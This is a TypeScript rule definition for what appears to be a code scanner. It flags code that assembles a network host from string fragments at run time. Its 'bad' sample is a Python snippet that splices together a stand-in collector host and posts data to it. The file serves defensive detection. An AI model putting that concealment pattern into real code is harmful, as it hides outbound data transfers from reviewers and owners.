import { unexpectedAddress } from "../../detectors/unexpected-address.ts";
import { defineRule } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const assembledAddressRule = defineRule({
  family: "obfuscation",
  id: "obfuscation.assembled-address",
  alias: "R03.assembled_address",
  severity: "review",
  says: "It puts the address that it speaks to together while it runs, so that nobody can read it.",
  falsePositive: "A host whose parts come from a configuration; write the host in one piece.",
  bad: [
    python(
      "import requests\nhost = 'unkn' + 'own-col' + 'lector.example'\nrequests.post('https://' + host + '/x', data='1')",
    ),
  ],
  good: [python("import requests\nhost = 'collector.example'\nrequests.get('https://' + host + '/x')")],
  run: ignoreSamples(unexpectedAddress),
});
